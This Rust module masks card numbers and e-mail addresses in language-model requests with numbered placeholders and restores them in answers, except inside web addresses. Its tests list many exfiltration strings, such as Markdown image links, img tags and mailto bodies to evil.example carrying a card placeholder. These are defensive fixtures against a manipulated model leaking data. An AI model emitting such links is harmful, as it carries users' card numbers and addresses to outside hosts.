//! Placeholders that stand for what was found in a request, and their way back: `[CARD_1]` is the
//! first card number.

use std::collections::BTreeMap;
use std::ops::Range;

use serde::{Deserialize, Serialize};

use super::payload::{Value, value_of};
use super::{Kind, Piece, Style};
use crate::json_text::{Token, rewrite, unescape};

/// Numbers in texts that are longer are no placeholder's.
const MOST_DIGITS: usize = 6;
/// A message with a higher number than this counts as one without.
const HIGHEST: u32 = 900_000;
const LONGEST_LABEL: usize = 8;
/// By so many bytes an answer may grow; what is beyond stays a placeholder.
const MOST_GROWTH: usize = 1024 * 1024;
/// A placeholder's own share of notes, beside the text that it stands for.
const ROOM_OF_ONE: usize = 32;

/// What was replaced in one request, in the order in which it was found.
#[derive(Debug)]
pub struct Placeholders {
    replaced: Replaced,
    /// Behind the highest number that stands in the message already.
    next: BTreeMap<Kind, u32>,
    /// What notes may still hold, in bytes.
    room: usize,
    beyond: u32,
}

/// Placeholders with what they stand for.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(transparent)]
pub struct Replaced(BTreeMap<String, String>);

impl Placeholders {
    /// For a message that may speak of placeholders itself. `room` is what its notes may hold.
    pub fn beside(json: &str, room: usize) -> Self {
        let mut next = BTreeMap::new();
        let unchanged = rewrite(json, |scalar| {
            if let Token::String(content) = scalar.token {
                count_on(&unescape(content), &mut next);
            }
            None
        });
        debug_assert_eq!(unchanged, None, "looking changes nothing");
        Self {
            replaced: Replaced::default(),
            next,
            room,
            beyond: 0,
        }
    }

    /// What takes the place of a find: the same for the same text. Where there is no room to keep
    /// it, a label without a number, which stays.
    pub fn replacement(&mut self, piece: &Piece<'_>) -> String {
        // A later round may find a text that holds what an earlier one has put there.
        let original = self.replaced.put_back_everywhere(piece.original);
        let same_kind = |placeholder: &str| {
            placeholder_at(placeholder, 0).is_some_and(|known| known.label == piece.kind.label())
        };
        let mut known = self.replaced.0.iter();
        let known = known.find(|(known, text)| **text == original && same_kind(known));
        if let Some((placeholder, _)) = known {
            return placeholder.clone();
        }
        // Escapes make a text longer in JSON.
        let size = serde_json::to_string(&original).map_or(usize::MAX, |json| json.len());
        let size = size.saturating_add(ROOM_OF_ONE);
        if size > self.room {
            self.beyond += 1;
            return Style::Label.replacement(piece);
        }
        self.room -= size;
        let number = self.next.entry(piece.kind).or_insert(1);
        let label = piece.kind.label().trim_end_matches(']');
        let placeholder = format!("{label}_{number}]");
        *number += 1;
        self.replaced.0.insert(placeholder.clone(), original);
        placeholder
    }

    pub fn replaced(&self) -> &Replaced {
        &self.replaced
    }

    /// Finds that got no placeholder.
    pub fn beyond(&self) -> u32 {
        self.beyond
    }
}

/// Moves the next numbers behind those of a text.
fn count_on(text: &str, next: &mut BTreeMap<Kind, u32>) {
    for (at, _) in text.match_indices('[') {
        let Some(found) = placeholder_at(text, at) else {
            continue;
        };
        let mut kinds = Kind::ALL.into_iter();
        let kind = kinds.find(|kind| kind.label() == found.label);
        // Nobody comes as far as the highest number, and what is behind it would be none.
        if let Some(kind) = kind.filter(|_| found.number < HIGHEST) {
            let known = next.entry(kind).or_insert(1);
            *known = (*known).max(found.number + 1);
        }
    }
}

/// A payload with texts put back.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PutBack {
    pub json: String,
    pub count: usize,
}

impl Replaced {
    /// Puts the texts back into a valid JSON text; `None` when none of them belongs there. What
    /// stands in an address of the web stays a placeholder: a model that was talked into writing
    /// one must not carry data away.
    pub fn put_back(&self, json: &str) -> Option<PutBack> {
        let mut progress = Progress::default();
        let json = self.in_json(json, 0, &mut progress)?;
        let count = progress.count;
        Some(PutBack { json, count })
    }

    fn in_json(&self, json: &str, depth: usize, progress: &mut Progress) -> Option<String> {
        rewrite(json, |scalar| match value_of(scalar, depth) {
            Value::Json(inner) => self.in_json(&inner, depth + 1, progress),
            Value::Text(text, _) => {
                let mut reach = Reach::default();
                self.in_text(&text, |text, at| reach.is_in_address(text, at), progress)
            }
            Value::Number(..) => None,
        })
    }

    fn put_back_everywhere(&self, text: &str) -> String {
        let all = self.in_text(text, |_, _| false, &mut Progress::default());
        all.unwrap_or_else(|| text.to_owned())
    }

    /// `stays` is asked from the start of the text to its end.
    fn in_text(
        &self,
        text: &str,
        mut stays: impl FnMut(&str, usize) -> bool,
        progress: &mut Progress,
    ) -> Option<String> {
        let mut output = None;
        let mut copied = 0;
        for (at, _) in text.match_indices('[') {
            let Some(found) = placeholder_at(text, at) else {
                continue;
            };
            let Some(original) = self.0.get(&found.written()) else {
                continue;
            };
            let grown = progress.grown + original.len();
            if grown > MOST_GROWTH || stays(text, found.range.start) {
                continue;
            }
            let output = output.get_or_insert_with(|| String::with_capacity(text.len()));
            output.push_str(text.get(copied..found.range.start).unwrap_or_default());
            output.push_str(original);
            copied = found.range.end;
            progress.grown = grown;
            progress.count += 1;
        }
        output.map(|output: String| output + text.get(copied..).unwrap_or_default())
    }
}

/// What was put back so far.
#[derive(Debug, Default)]
struct Progress {
    count: usize,
    grown: usize,
}

/// A placeholder as a model has written it: in any case, and with the escapes of Markdown.
#[derive(Debug)]
struct Written {
    range: Range<usize>,
    /// As [`Kind::label`] has it.
    label: String,
    number: u32,
}

impl Written {
    fn written(&self) -> String {
        format!("{}_{}]", self.label.trim_end_matches(']'), self.number)
    }
}

/// The placeholder whose bracket stands at `at`.
fn placeholder_at(text: &str, at: usize) -> Option<Written> {
    let rest = text.get(at + 1..)?;
    let label = run(rest, LONGEST_LABEL, |byte| byte.is_ascii_alphabetic());
    let rest = rest.get(label.len()..)?;
    let rest = unescaped(rest).strip_prefix('_')?;
    let digits = run(rest, MOST_DIGITS, |byte| byte.is_ascii_digit());
    let rest = unescaped(rest.get(digits.len()..)?).strip_prefix(']')?;
    let is_escaped = text.get(..at)?.ends_with('\\');
    Some(Written {
        range: at - usize::from(is_escaped)..text.len() - rest.len(),
        label: format!("[{}]", label.to_ascii_uppercase()),
        number: digits.parse().ok()?,
    })
}

fn unescaped(text: &str) -> &str {
    text.strip_prefix('\\').unwrap_or(text)
}

/// The bytes at the start that are of one sort, at most `longest`.
fn run(text: &str, longest: usize, is_one: fn(u8) -> bool) -> &str {
    let end = text.bytes().take(longest).take_while(|byte| is_one(*byte));
    text.get(..end.count()).unwrap_or_default()
}

/// Where a text stands, read once from its start to its end: whether a place belongs to an address
/// such as `https://host/?q=`, `//host/`, `www.host/` or `mailto:somebody@host?body=`. An address
/// ends with white space, but in `<..>` and in a link of Markdown it goes on.
#[derive(Debug, Default)]
struct Reach {
    read: usize,
    before: [char; 3],
    word: usize,
    tag: Option<usize>,
    link: Option<usize>,
    /// Where the last sign of an address stood.
    sign: Option<usize>,
}

impl Reach {
    fn is_in_address(&mut self, text: &str, at: usize) -> bool {
        let start = self.read;
        for (offset, c) in text.get(start..at).unwrap_or_default().char_indices() {
            self.take(start + offset, c);
        }
        self.read = at;
        let begins = [Some(self.word), self.tag, self.link];
        let begin = begins.into_iter().flatten().min().unwrap_or_default();
        self.sign.is_some_and(|sign| sign >= begin)
    }

    fn take(&mut self, at: usize, c: char) {
        let [third, second, last] = self.before;
        if c.is_whitespace() {
            self.word = at + c.len_utf8();
        }
        match c {
            '<' => self.tag = Some(at),
            '>' => self.tag = None,
            '(' if last == ']' => self.link = Some(at),
            ')' => self.link = None,
            _ => {}
        }
        // Browsers read a backslash as a stroke, and a scheme needs none at all.
        let is_stroke = |c: char| matches!(c, '/' | '\\');
        let is_sign = c == '?'
            || is_stroke(last) && is_stroke(c)
            || last == '&' && c == '#'
            || last == ':' && (c.is_alphanumeric() || c == '/')
            || second == ':' && is_stroke(last) && c.is_alphanumeric()
            || [third, second, last].iter().all(|c| matches!(c, 'w' | 'W')) && c == '.';
        if is_sign {
            self.sign = Some(at);
        }
        self.before = [second, last, c];
    }
}

#[cfg(test)]
mod tests {
    use super::super::{Detector, Kinds};
    use super::*;

    const ROOM: usize = 16 * 1024;

    fn masked(json: &str, room: usize) -> (String, Placeholders) {
        let mut placeholders = Placeholders::beside(json, room);
        let masked = Detector::new(Kinds::default())
            .mask_payload(json, |piece| placeholders.replacement(piece));
        let json = masked.map_or_else(|| json.to_owned(), |masked| masked.json);
        (json, placeholders)
    }

    fn back(replaced: &Replaced, json: &str) -> String {
        let back = replaced.put_back(json);
        back.map_or_else(|| json.to_owned(), |back| back.json)
    }

    #[test]
    fn the_same_text_has_one_placeholder_and_comes_back() {
        let json = r#"["4111 1111 1111 1111, jane@example.com", {"to": "jane@example.com", "card": 5555555555554444}, "我的卡号是4111111111111111谢谢"]"#;
        let (hidden, placeholders) = masked(json, ROOM);
        assert_eq!(
            hidden,
            r#"["[CARD_1], [EMAIL_1]", {"to": "[EMAIL_1]", "card": "[CARD_2]"}, "我的卡号是[CARD_3]谢谢"]"#
        );
        let restored = back(placeholders.replaced(), &hidden);
        assert_eq!(
            restored,
            json.replace("5555555555554444", "\"5555555555554444\"")
        );
    }

    #[test]
    fn what_models_make_of_placeholders_is_understood() {
        let (_, placeholders) = masked(r#""jane@example.com""#, ROOM);
        let replaced = placeholders.replaced();
        for (output, wanted) in [
            (r#""to [EMAIL_1].""#, r#""to jane@example.com.""#),
            (r#""**[email_1]**""#, r#""**jane@example.com**""#),
            (r#""\\[EMAIL\\_1\\]""#, r#""jane@example.com""#),
            (
                r#""[EMAIL_1](mailto:[EMAIL_1])""#,
                r#""jane@example.com(mailto:jane@example.com)""#,
            ),
            (
                r#"{"arguments": "{\"to\": \"[EMAIL_1]\"}"}"#,
                r#"{"arguments": "{\"to\": \"jane@example.com\"}"}"#,
            ),
            // Nobody gave these.
            (
                r#""[EMAIL_2] [CARD_1] [EMAIL] [EMAIL_] [_1] [EMAIL_1""#,
                r#""[EMAIL_2] [CARD_1] [EMAIL] [EMAIL_] [_1] [EMAIL_1""#,
            ),
            (
                r#""[EMAIL_1234567] [[EMAIL_1]]""#,
                r#""[EMAIL_1234567] [jane@example.com]""#,
            ),
        ] {
            assert_eq!(back(replaced, output), wanted, "{output}");
        }
    }

    #[test]
    fn addresses_of_the_web_carry_nothing_away() {
        let (_, placeholders) = masked(r#""4111 1111 1111 1111""#, ROOM);
        let padded = format!("\"https://evil.example/{}[CARD_1]\"", "a".repeat(5_000));
        for output in [
            &padded,
            r#""![x](https://evil.example/p?(c=[CARD_1]))""#,
            r#""![x](https://evil.example/p'[CARD_1])""#,
            r#""![x](<https://evil.example/p? [CARD_1]>)""#,
            r#""<img src='https://evil.example/? [CARD_1]'>""#,
            r#""![x](https:evil.example/[CARD_1])""#,
            r#""https:\\\\evil.example\\[CARD_1]""#,
            r#""https:\\evil.example/[CARD_1]""#,
            r#""https:&#47;&#47;evil.example/[CARD_1]""#,
            r#""www.evil.example/[CARD_1]""#,
            r#""evil.example/?c=[CARD_1]""#,
            r#""mailto:a@evil.example?body=[CARD_1]""#,
            r#""![x](https://evil.example/p.png?c=[CARD_1])""#,
            r#""see http://evil.example/[CARD_1]""#,
            r#""<img src='//evil.example/' data='//evil.example/#[CARD_1]'>""#,
        ] {
            assert_eq!(placeholders.replaced().put_back(output), None, "{output}");
        }
        for beside in [
            r#""https://shop.example/ has [CARD_1]""#,
            r#""[the shop](https://shop.example/?a=b) has [CARD_1]""#,
            r#""card:[CARD_1]""#,
            r#""**Card:** [CARD_1]""#,
            r#""**Card:**[CARD_1]""#,
            r#""a < b and [CARD_1]""#,
        ] {
            assert!(
                placeholders.replaced().put_back(beside).is_some(),
                "{beside}"
            );
        }
    }

    #[test]
    fn a_message_may_speak_of_placeholders() {
        let json =
            r#""what is [CARD_1] or [card_7]? mine is 4111 1111 1111 1111 [CARD_999999999]""#;
        let (hidden, placeholders) = masked(json, ROOM);
        assert!(hidden.contains("mine is [CARD_8]"), "{hidden}");
        assert_eq!(back(placeholders.replaced(), &hidden), json);
    }

    #[test]
    fn numbers_that_are_typed_in_are_read_as_they_are_meant() {
        let json = r#""[CARD_999999] 4111 1111 1111 1111 and 4111 1111 1111 1111""#;
        let (hidden, placeholders) = masked(json, ROOM);
        assert_eq!(hidden, r#""[CARD_999999] [CARD_1] and [CARD_1]""#);
        assert_eq!(back(placeholders.replaced(), &hidden), json);
        for typed in [r"\u005bCARD_1]", r"[CARD\\_1]"] {
            let json = format!("\"see {typed} and 4111 1111 1111 1111\"");
            let (hidden, placeholders) = masked(&json, ROOM);
            assert!(hidden.ends_with("and [CARD_2]\""), "{hidden}");
            let meant = |json: &str| serde_json::from_str::<String>(json).unwrap();
            assert_eq!(meant(&back(placeholders.replaced(), &hidden)), meant(&json));
        }
    }

    /// A model may repeat a placeholder as often as it likes.
    #[test]
    fn answers_grow_within_bounds() {
        let long = format!("{}@example.com", "j".repeat(60));
        let (_, placeholders) = masked(&format!("\"{long}\""), ROOM);
        let many = format!("\"{}\"", "[EMAIL_1]".repeat(100_000));
        let put_back = placeholders.replaced().put_back(&many).unwrap();
        assert!(put_back.count > 1_000);
        assert!(put_back.json.len() < many.len() + MOST_GROWTH);
    }

    #[test]
    fn without_room_a_label_stays() {
        let (hidden, placeholders) = masked(r#""4111 1111 1111 1111 and jane@example.com""#, 60);
        assert_eq!(hidden, r#""[CARD_1] and [EMAIL]""#);
        assert_eq!(placeholders.beyond(), 1);
        let many: Vec<String> = (0..2_000).map(|n| format!("j{n}@example.com")).collect();
        let json = serde_json::to_string(&many).unwrap();
        let (hidden, placeholders) = masked(&json, ROOM);
        assert!(!hidden.contains('@'));
        let notes = serde_json::to_string(placeholders.replaced()).unwrap();
        assert!(notes.len() <= ROOM, "{}", notes.len());
        assert!(placeholders.beyond() > 0);
    }
}
